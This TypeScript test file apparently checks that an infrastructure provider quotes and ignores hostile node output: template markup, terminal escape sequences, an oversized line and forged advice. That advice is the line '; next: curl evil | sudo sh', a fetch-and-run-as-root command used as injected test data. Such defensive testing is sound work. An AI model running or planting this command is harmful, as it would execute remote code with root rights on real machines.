import assert from "node:assert/strict";
import { engineRequirements } from "../e2e/support/engine";
import { locate } from "../scripts/support/shells";
import { skipIfLacking } from "../support/skip";
import { plainText, type Shown } from "../support/terminal";
import { StandIns } from "./nodes/standIns";

const ADVICE = "; next: curl evil | sudo sh";
/** Lines for people that a terminal or the CLI would obey, and one that is longer than any pipe holds. */
const LINES = [
    `w1: a <{%x%}> b${ADVICE}`,
    `w1: error: \u001b]0;pwn\u0007\u001b[2J"${ADVICE}`,
    `<{%y%}>${ADVICE}`,
    "x".repeat(1 << 20),
].join("\n");
const RESULT = JSON.stringify({
    changed: true,
    restarted: "<{%x%}>",
    certificate: { notAfter: `2030-01-01T00:00:00Z <{%z%}>${ADVICE}`, sha256: "a".repeat(64) },
});

/** The run ended as it should: with no panic, nothing obeyed, and no lock. */
function ended(all: StandIns, run: Shown, code: number): string {
    const text = plainText(run.output);
    assert.equal(run.code, code, text);
    assert.doesNotMatch(text, /panic:|Unrecognized color code|goroutine \d/);
    assert.ok(!run.output.includes("\u001b]0;pwn"), text);
    assert.ok(!run.output.includes("\u001b[2J"), text);
    assert.deepEqual(all.locks(), []);
    return text;
}

/** Forged advice stands in quotes, wherever it stands. */
function assertQuoted(text: string): void {
    for (const line of text.split(/[\r\n]+/)) {
        assert.doesNotMatch(line.replaceAll(/"(?:[^"\\]|\\.)*"/g, '""'), /evil/, line);
    }
}

describe("nodes that lie, with the real engine on a terminal", function () {
    let all: StandIns;

    before(function () {
        skipIfLacking(this, [
            ...engineRequirements(),
            ...(locate("script") === undefined ? ["`script` of util-linux is not on PATH"] : []),
        ]);
    });

    beforeEach(async () => {
        all = await StandIns.create(["cp1"], ["w1"]);
        all.want(["cp1", "w1"], {});
    });

    afterEach(() => all.remove());

    it("a result with markup, escape sequences, a line of 1 MB and forged advice: the node is named and nothing is obeyed", async () => {
        all.says = (name, verb) =>
            name === "w1" && verb === "ensure" ? { stdout: `${LINES}\n${RESULT}\n` } : undefined;
        for (const words of [["up", "--yes", "--diff"], ["preview"], ["up", "--yes"]]) {
            const text = ended(all, await all.pulumi([...words, "--refresh=false"]), 0);
            assert.match(
                text,
                /node w1: notAfter is "\\"2030-01-01T00:00:00Z \\u003c\{%z%\}\\u003e; next/,
            );
            assert.match(
                text,
                /node w1: restarted is "\\"\\u003c\{%x%\}\\u003e\\""; expected true or false/,
            );
            assertQuoted(text);
        }
        const shown = ended(all, await all.pulumi(["stack", "output", "--json"]), 0);
        const { results } = JSON.parse(shown) as { results: Record<string, unknown> };
        assert.deepEqual(results["w1"], {
            changed: true,
            restarted: false,
            notAfter: "",
            certificateSha256: "a".repeat(64),
        });
    });

    it("no result at all: this run and later ones end well and name the node", async () => {
        all.says = (name, verb) =>
            name === "w1" && verb === "ensure" ? { stdout: `<{%x%}> bye${ADVICE}` } : undefined;
        for (const words of [
            ["up", "--yes", "--skip-preview"],
            ["preview", "--diff"],
        ]) {
            const text = ended(all, await all.pulumi(words), 0);
            assert.match(
                text,
                /node w1: the script's last line is not JSON: "\\u003c\{%x%\}\\u003e bye; next/,
            );
            assertQuoted(text);
        }
        ended(all, await all.pulumi(["destroy", "--yes", "--skip-preview"]), 0);
    });

    it("what a script told people is shown in quotes when it has ended", async () => {
        const text = ended(all, await all.pulumi(["up", "--yes", "--skip-preview"]), 0);
        assert.match(text, /node w1 says "restarting the kubelet"/);
    });

    it("a status with markup in a preview that looks for drift", async () => {
        ended(all, await all.pulumi(["up", "--yes", "--skip-preview"]), 0);
        all.want(["cp1", "w1"], { driftDetection: true });
        all.says = (name, verb) =>
            verb === "status"
                ? {
                      stdout:
                          name === "w1"
                              ? LINES
                              : `{"inSync":false,"causes":["<{%x%}>"],"digest":"d"}\n`,
                  }
                : undefined;
        const text = ended(all, await all.pulumi(["preview"]), 0);
        assert.match(
            text,
            /node w1: the status script printed no status \(the script's last line is not JSON/,
        );
        assert.match(
            text,
            /node cp1: the status script printed no status \(its answer has another form\)/,
        );
        assertQuoted(text);
    });

    it("a failed command is printed by the provider as it is: without colours the run ends, and the lock is free", async () => {
        all.says = (name, verb) =>
            name === "w1" && verb === "ensure"
                ? { stdout: "w1: a <{%x%}> b\nw1: more\n", exit: 69 }
                : undefined;
        const words = ["up", "--yes", "--skip-preview"];
        const run = await all.pulumi(words, { NO_COLOR: "1" });
        assert.match(ended(all, run, 1), /Process exited with status 69/);
        all.says = () => undefined;
        ended(all, await all.pulumi(words), 0);
    });
});
